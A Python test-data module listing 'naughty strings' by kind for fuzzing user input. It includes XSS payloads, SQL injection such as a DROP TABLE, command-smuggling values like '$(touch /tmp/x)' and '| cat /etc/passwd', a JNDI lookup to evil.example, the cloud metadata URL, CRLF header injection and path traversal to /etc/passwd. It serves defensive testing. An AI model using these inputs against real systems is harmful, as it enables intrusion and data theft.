"""Strings that have broken programs, by what they break. Our own selection, after the kinds of the Big List of Naughty
Strings; each is sent wherever a user's text goes, and stands for its kind.
"""

from collections.abc import Iterator, Mapping

NAUGHTY: Mapping[str, tuple[str, ...]] = {
    "nothing and blanks": ("", " ", "\t", "\n", "\r\n", "\u00a0", "\u2003", "\u200b", "\ufeff", "\u2028", "\u2029"),
    "words that mean a value": (
        *("null", "NULL", "None", "undefined", "nil", "true", "False", "NaN", "Infinity", "-Infinity"),
        *("[object Object]", "{}", "[]", "hasOwnProperty", "__proto__", "constructor", "__class__", "__init__"),
    ),
    "numbers": (
        *("0", "-0", "-1", "1.0", "1e309", "-1e309", "1/0", "0x7fffffffffffffff", "9223372036854775808", "1_000"),
        *("00", "08", "0b1", "1,5", "١٢٣", "½", "²", "9" * 400, "0." + "3" * 400, "--1", "+1", "1e", "0x"),
    ),
    "control characters": (
        *("\x00", "a\x00b", "\x01\x02\x03", "\x07\x08", "\x1b[31mred\x1b[0m", "\x7f", "\x80\x9f", "a\x0bb\x0cc"),
        *("\x1b]0;title\x07", "\r", "line\rover", "\x1a"),
    ),
    "broken Unicode": ("\ud800", "\udfff", "a\ud83db", "\udc00\ud800", "\ufffe", "\uffff", "\U0010ffff", "\U0001fffe"),
    "direction and combining": (
        *("\u202egnp.exe", "\u2066\u2067\u2069", "\u200d\u200c", "مُنَاقَشَةُ", "שלום \u202d hello", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘"),
        *("e" + "\u0301" * 2000, "ﷺ" * 50, "ﬀﬁﬂ", "ß", "İI", "ı", "K", "\u1e9e"),
    ),
    "emoji": ("😀", "👩‍👩‍👧‍👦", "👍🏿", "🇦🇨🇺🇸", "1️⃣", "🏴\U000e0067\U000e0062\U000e007f", "❤\ufe0f" * 100, "🫠"),
    "other scripts": (
        "田中さんにあげて下さい",
        "部落格",
        "ÅÍÎÏ˝ÓÔ",
        "ЁЂЃЄЅІЇ",
        "ⁿᵈ₁₂",
        "𝕬𝖇𝖈",
        "˙ɐnbᴉlɐ",
        "กำ",
        "한국어",
    ),
    "script in a page": (
        *(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "'\"><b>",
            "</textarea>",
        ),
        *("javascript:alert(1)", "<a href='javascript:x'>y</a>", "<style>*{background:url(//evil.example)}</style>"),
        *("![](http://evil.example/x.png)", "<!--", "]]>", "<?xml version='1.0'?>", "{{7*7}}", "{% debug %}", "${7*7}"),
        *("<iframe src=//evil.example>", "&lt;&#x3c;&#60;", "data:text/html,<script>x</script>"),
    ),
    "SQL": (
        *("' OR 1=1 --", "'; DROP TABLE accounts_user; --", "1; SELECT pg_sleep(9)", "\\'", "%", "_", "%_%\\", "\\"),
        *('" OR ""="', "') UNION SELECT * FROM django_session --", "1' ESCAPE '", "/* */", "\x1a'"),
    ),
    "paths": (
        *("../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\con", "file:///etc/passwd", "."),
        *("..", "....//", "%2e%2e%2f", "..%c0%af", "a/../b", "~root", "/dev/zero", "\\\\evil\\share", "CON.txt"),
        *("a" * 5000, "x.pdf\x00.exe", ".htaccess", "-rf", "--help", "a\nb.pdf", "con:stream", "report.pdf/"),
    ),
    "commands and headers": (
        *("$(touch /tmp/x)", "`id`", "| cat /etc/passwd", "; ls", "&& true", "%0d%0aSet-Cookie: a=b"),
        *("\r\nSet-Cookie: a=b", "a\r\n\r\nHTTP/1.1 200 OK", "%s%s%n", "%(x)s", "{0.__class__}", "eval('1')"),
        *("${jndi:ldap://evil.example/a}", "{$where: 1}", "*)(uid=*", "http://169.254.169.254/latest/"),
    ),
    "patterns and long": ("(a+)+$" * 20 + "!", "(" * 1000, "[" * 1000, "a" * 31_999, "é" * 16_000, "\\" * 1000),
}


def all_strings() -> Iterator[tuple[str, str]]:
    """Kind and string."""
    for kind, strings in NAUGHTY.items():
        for string in strings:
            yield kind, string
